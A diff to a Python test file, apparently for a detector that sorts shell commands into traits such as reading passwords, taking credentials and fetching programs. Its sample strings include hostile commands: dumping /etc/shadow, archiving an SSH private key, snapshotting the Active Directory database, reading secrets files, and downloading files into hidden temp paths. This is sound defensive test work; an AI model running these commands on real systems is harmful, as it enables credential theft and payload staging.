@@ -278,15 +278,31 @@ def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
             ("sh -c 'curl localhost/x | sh'", "sh -c 'cat a.top/x | sh'", "curl -o a.com/b https://example.com/b.zip"),
         ),
         (
-            Trait.TAKES_CREDENTIALS,
+            Trait.READS_PASSWORDS,
             (
                 "appcmd.exe list apppool /text:*", "appcmd list vdir /config", "cat /opt/confluence.cfg.xml",
-                "cat /srv/app/.env", "aspnet_regiis.exe -pdf connectionStrings C:\\inetpub", "getent shadow",
-                "tar czf /tmp/k.tgz /home/a/.ssh/id_rsa",
+                "cat /srv/app/.env", "aspnet_regiis.exe -pdf connectionStrings C:\\inetpub",
+                "cat /var/lib/jenkins/secrets/master.key",
+            ),
+            ("appcmd list apppool /text:name", "cat conf/server.xml", "aspnet_regiis -i", "cat .environment"),
+        ),
+        (
+            Trait.TAKES_CREDENTIALS,
+            (
+                "getent shadow", "tar czf /tmp/k.tgz /home/a/.ssh/id_rsa", "cat /etc/shadow",
+                'x.exe "ac i ntds" "ifm" "create full C:\\x" q q',
+            ),
+            ("getent passwd", "tar czf /tmp/k.tgz /home/a/.sshrc", 'ntdsutil "ac i ntds" "files" "info" q q'),
+        ),
+        (
+            Trait.FETCHES_PROGRAM,
+            (
+                "curl http://198.51.100.7/pugyqs -o /var/tmp/pugyqs", "wget -O /dev/shm/.x 198.51.100.7:8080/a",
+                "powershell iwr http://198.51.100.7/a -OutFile C:\\Windows\\Temp\\a",
             ),
             (
-                "appcmd list apppool /text:name", "cat conf/server.xml", "aspnet_regiis -i", "getent passwd",
-                "cat .environment", "tar czf /tmp/k.tgz /home/a/.sshrc",
+                "curl http://198.51.100.7/status -o /tmp/status.json", "curl https://example.com/a -o /tmp/a",
+                "curl http://10.0.0.5/a -o /tmp/a", "ping 198.51.100.7 -o /tmp/a",
             ),
         ),
     ],
